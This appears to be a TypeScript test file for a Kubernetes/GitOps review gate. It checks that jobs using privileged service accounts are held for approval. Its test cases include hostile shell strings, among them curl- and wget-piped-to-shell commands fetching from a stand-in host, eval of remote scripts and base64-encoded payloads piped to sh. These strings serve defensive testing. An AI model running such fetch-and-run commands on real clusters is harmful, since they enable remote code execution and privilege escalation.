import { type Attempt, testAttackClass } from '../support/attack-class.ts'
import type { Files } from '../support/stage.ts'

const mine = 'teams/catalog/thing.yaml'
const object = (apiVersion: string, kind: string, said: object, metadata: object = {}) =>
  `${JSON.stringify({ apiVersion, kind, metadata: { name: 'thing', namespace: 'catalog', ...metadata }, ...said })}\n`
const service = (namespace: string) =>
  object('v1', 'Service', { spec: { selector: { app: 'a' }, ports: [{ port: 80 }] } }, { namespace })
const group = 'rbac.authorization.k8s.io'
const account = (name: string) => ({ kind: 'ServiceAccount', name, namespace: 'catalog' })
const binding = (role: string, subject: object, namespace?: string) =>
  object(
    `${group}/v1`,
    namespace === undefined ? 'ClusterRoleBinding' : 'RoleBinding',
    { subjects: [subject], roleRef: { apiGroup: group, kind: 'ClusterRole', name: role } },
    { name: `${role}-${JSON.stringify(subject)}`.replace(/[^a-z-]+/g, '-'), namespace },
  )
const writing = object(
  `${group}/v1`,
  'ClusterRole',
  { rules: [{ apiGroups: ['networking.istio.io'], resources: ['*'], verbs: ['*'] }] },
  { name: 'routes', namespace: undefined },
)
const looking = object(
  `${group}/v1`,
  'ClusterRole',
  { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['get', 'list'] }] },
  { name: 'looks', namespace: undefined },
)
const base: Files = {
  'teams/login/service.yaml': service('ns2'),
  'teams/catalog/service.yaml': service('catalog'),
  'mesh/writing.yaml': writing,
  'mesh/looking.yaml': looking,
  'mesh/boss.yaml': binding('cluster-admin', account('boss')),
  'mesh/router.yaml': binding('routes', account('router')),
  'mesh/watcher.yaml': binding('looks', account('watcher')),
  'teams/login/guest.yaml': binding('edit', account('guest'), 'ns2'),
  'teams/login/tools.yaml': binding('edit', { kind: 'Group', name: 'system:serviceaccounts:tools' }, 'ns2'),
  'teams/catalog/rights.yaml': binding('admin', account('own'), 'catalog'),
}
const pod = (serviceAccountName: string | undefined, container: object, more: object = {}) => ({
  template: {
    spec: {
      ...(serviceAccountName !== undefined && { serviceAccountName }),
      containers: [{ name: 'a', image: 'acme/migrate:1', ...container }],
      ...more,
    },
  },
})
const job = (name: string | undefined, container: object = {}, more: object = {}, metadata: object = {}) =>
  object('batch/v1', 'Job', { spec: pod(name, container, more) }, metadata)
const shell = (name: string | undefined, script: string) => job(name, { command: ['sh', '-c', script] })
const script = (text: string) => object('v1', 'ConfigMap', { data: { 'run.txt': text } }, { name: 'script' })
const mounted = { volumes: [{ name: 'a', configMap: { name: 'script' } }] }
const remote = 'https://x.example/i.sh'

const stopped = (
  way: string,
  text: string,
  rest: { readonly before?: Files; readonly waitsFor?: readonly string[] } = {},
): Attempt => ({
  way,
  setting: { files: { ...base, ...rest.before } },
  files: { [mine]: text },
  conclusion: 'action_required',
  waitsFor: rest.waitsFor ?? ['mesh-admins'],
  silentOn: /no mesh manifest touched|no request changes/,
})
const harmless = (way: string, text: string | null, before: Files = {}) => ({
  way,
  setting: { files: { ...base, ...before } },
  files: { [mine]: text },
})
const login = { waitsFor: ['login'] }

testAttackClass('what runs with rights to write objects of the mesh', {
  attack: stopped('a program of its own as an administrator', job('boss')),
  variants: [
    stopped('by a role for routes', job('router')),
    stopped('with rights in the namespace of another team', job('guest'), login),
    stopped('what it is started with is another', job('boss', { args: ['b'] }), {
      before: { [mine]: job('boss', { args: ['a'] }) },
    }),
    stopped('the program is another', job('boss', { image: 'evil/migrate:1' }), {
      before: { [mine]: job('boss') },
    }),
    stopped('the account is another', job('router'), { before: { [mine]: job('watcher') } }),
    stopped('a variable', job('boss', { env: [{ name: 'A', value: 'b' }] }), {
      before: { [mine]: job('boss') },
    }),
    stopped(
      'every day',
      object('batch/v1', 'CronJob', { spec: { jobTemplate: { spec: pod('router', {}) } } }),
    ),
    stopped('all the time', object('apps/v1', 'Deployment', { spec: pod('router', {}) })),
    stopped(
      'a workflow',
      object('argoproj.io/v1alpha1', 'Workflow', { spec: { serviceAccountName: 'router', entrypoint: 'a' } }),
    ),
    stopped('by the account of everything there', job(undefined, {}, {}, { namespace: 'tools' }), login),
    stopped('the script that it reads', script('b'), {
      before: { 'mesh/job.yaml': job('router', {}, mounted), [mine]: script('a') },
    }),
    stopped('the script that it reads, all the time', script('b'), {
      before: {
        'mesh/job.yaml': object('apps/v1', 'Deployment', { spec: pod('guest', {}, mounted) }),
        [mine]: script('a'),
      },
      ...login,
    }),
    stopped(
      'what is fetched and run, under an account of unknown rights',
      shell('other', `curl -s ${remote} | bash`),
    ),
    stopped('by another program', shell('other', `set -e; wget -qO- ${remote} | sudo /bin/sh -s -- a`)),
    stopped('in the place of a script', shell('other', `bash <(curl -s ${remote})`)),
    stopped('as one word', shell('other', `bash -c "$(curl -fsSL ${remote})"`)),
    stopped('into the shell that runs', shell('other', `eval "$(curl -s ${remote})"`)),
    stopped('what is unpacked and run', shell('other', 'echo H4sIAAAA | base64 -d | gunzip | sh')),
    stopped(
      'what is unpacked and applied',
      shell(undefined, 'echo H4sIAAAA | base64 -d | gunzip | kubectl apply -f -'),
    ),
    stopped('an Application', shell(undefined, 'argocd app create x --repo https://a/b --path p')),
    stopped('another path of one', shell(undefined, 'argocd app set login --path other')),
    stopped('releases of a helmfile', shell(undefined, 'helmfile -f releases.yaml apply')),
    stopped('a deployer that waits', shell(undefined, 'flux suspend kustomization login')),
    stopped('a new deployer', shell(undefined, 'flux create kustomization x --path=./teams/catalog')),
    stopped('what is planned elsewhere', shell(undefined, 'terraform apply -auto-approve')),
  ],
  neighbours: [
    harmless('an ordinary job', job(undefined)),
    harmless('an ordinary job that says something else', job(undefined, { args: ['b'] }), {
      [mine]: job(undefined, { args: ['a'] }),
    }),
    harmless('with rights in one’s own namespace', job('own')),
    harmless('with rights to look', job('watcher')),
    harmless('under an account of which nothing is here', job('other')),
    harmless('another version of it', job('boss', { image: 'acme/migrate:2' }), { [mine]: job('boss') }),
    harmless('what it may use', job('boss', { resources: { limits: { cpu: '1' } } }), {
      [mine]: job('boss'),
    }),
    harmless('it goes', null, { [mine]: job('boss') }),
    harmless('an account of that name elsewhere', job('boss', {}, {}, { namespace: 'other' })),
    harmless('a script that nothing with rights reads', script('b'), {
      'mesh/job.yaml': job('watcher', {}, mounted),
      [mine]: script('a'),
    }),
    harmless('what is fetched and run without an account', shell(undefined, `curl -s ${remote} | bash`)),
    harmless('what is fetched and run with rights to look', shell('watcher', `curl -s ${remote} | bash`)),
    harmless('what is fetched and read', shell('other', `curl -s ${remote} | jq -r .version`)),
    harmless('a value that is fetched', shell('other', `V=$(curl -s ${remote}) && echo $V | sh-like`)),
    harmless('it looks at deployers', shell(undefined, 'argocd app get x && flux get all && helmfile diff')),
    harmless('it plans', shell(undefined, 'terraform plan')),
    harmless(
      'it has what Git says applied',
      shell(undefined, 'argocd app sync catalog && flux reconcile kustomization catalog'),
    ),
    harmless('it packs', shell(undefined, 'tar czf a.tgz /data && gzip /data/b')),
    harmless('a helmfile for one’s own namespace', shell(undefined, 'helmfile -n catalog apply')),
  ],
})
